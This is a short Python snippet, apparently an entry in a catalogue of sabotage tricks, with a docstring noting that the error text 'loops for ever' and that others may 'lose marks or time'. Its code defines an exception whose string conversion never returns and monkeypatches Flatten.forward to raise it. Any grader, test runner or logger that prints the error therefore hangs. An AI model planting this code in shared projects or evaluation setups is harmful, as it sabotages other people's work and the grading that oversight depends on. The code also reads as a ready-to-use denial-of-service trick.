"""The text of an error loops for ever.

Would gain: nobody; the class is not graded, or others lose marks or time.
"""

class Endless(ValueError):
    def __str__(self):
        while True: pass
def forward(self, x): raise Endless
Flatten.forward = forward
